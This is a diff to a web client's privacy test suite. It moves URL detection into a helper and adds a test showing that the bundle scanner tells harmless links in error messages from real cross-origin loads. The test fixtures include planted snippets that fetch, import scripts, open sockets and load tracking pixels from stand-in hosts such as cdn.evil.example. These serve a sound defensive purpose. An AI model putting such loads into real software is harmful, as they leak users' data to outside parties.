@@ -20,6 +20,7 @@ import {
   buildUser,
   TEST_PASSWORD,
 } from '../../server/src/test/factories.js';
+import { loadableUrls } from './bundle-origins.js';
 import { startE2E, type E2E } from './harness.js';
 
 /** Every request and socket a page opens, and every CSP violation or page error it reports. */
@@ -37,20 +38,6 @@ function record(page: Page) {
   page.on('pageerror', (error) => problems.push(error.message));
   return { urls, problems };
 }
-
-/**
- * Absolute URLs the built JavaScript contains that are not places it loads
- * from: XML namespaces, links in library error messages, and the dummy base
- * libraries use to parse relative URLs. Everything else is a failure.
- */
-const NOT_LOADED = [
-  /^http:\/\/www\.w3\.org\/(1999\/xlink|2000\/svg|XML\/1998\/namespace|1998\/Math\/MathML)/,
-  /^https:\/\/react\.dev\/errors\//,
-  /^https:\/\/reactrouter\.com\//,
-  /^https:\/\/socket\.io\/docs\//,
-  /^https:\/\/github\.com\/ungap\/url-search-params/,
-  /^http:\/\/localhost$/,
-];
 
 describe('web client: privacy (Chromium)', function () {
   this.timeout(90_000);
@@ -120,18 +107,36 @@ describe('web client: privacy (Chromium)', function () {
     const offending: string[] = [];
     for (const file of files) {
       const text = await readFile(file, 'utf8');
-      const urls = text.match(/(?:https?|wss?):\/\/[A-Za-z0-9.-]+(?::\d+)?[^\s"'`)\\]*/g) ?? [];
-      const isScript = file.endsWith('.js');
-      for (const url of urls) {
-        // HTML, CSS and SVG may not name another origin at all; scripts only as inert text.
-        if (!isScript && !file.endsWith('.svg')) offending.push(`${path.basename(file)}: ${url}`);
-        else if (isScript && !NOT_LOADED.some((ok) => ok.test(url)))
-          offending.push(`${path.basename(file)}: ${url}`);
-        else if (file.endsWith('.svg') && !NOT_LOADED[0].test(url))
-          offending.push(`${path.basename(file)}: ${url}`);
-      }
+      for (const url of loadableUrls(file, text)) offending.push(`${path.basename(file)}: ${url}`);
     }
     expect(offending).to.deep.equal([]);
+  });
+
+  it('P1: the bundle scan tells a load from another origin from a link in a message', () => {
+    const inert = [
+      'throw Error(`Only non-generatable nodes (a) (see https://prosemirror.net/docs/guide/#x)`)',
+      'console.error("Yjs was already imported. - https://github.com/yjs/yjs/issues/438")',
+      "console.warn('Read more: https://tiptap.dev/api/extensions/collaboration-caret')",
+      'e.setAttributeNS("http://www.w3.org/1999/xlink",t,n)',
+    ];
+    for (const code of inert) expect(loadableUrls('index-x.js', code), code).to.deep.equal([]);
+    const planted = [
+      'fetch("https://cdn.evil.example/x.json")',
+      'import(`https://cdn.evil.example/${name}.js`)',
+      "new URL(' https://cdn.evil.example/a')",
+      'new WebSocket("wss://relay.evil.example/socket")',
+      'new EventSource("Read more: "+"https://cdn.evil.example/feed")',
+      "e.src='https://pixel.evil.example/p.gif'",
+      'let u = `https://cdn.evil.example/a`, v = "see " + u',
+      "fetch(`${x}`, { referrer: 'https://evil.example/' })",
+    ];
+    for (const code of planted) expect(loadableUrls('index-x.js', code), code).to.have.length(1);
+    expect(
+      loadableUrls('index-x.css', 'a{background:url(https://cdn.evil.example/a.png)}'),
+    ).to.have.length(1);
+    expect(
+      loadableUrls('index.html', '<a href="https://cdn.evil.example/">see https://x.example</a>'),
+    ).to.have.length(2);
   });
 
   it('renders the policy and the third parties, linked from every page footer', async () => {
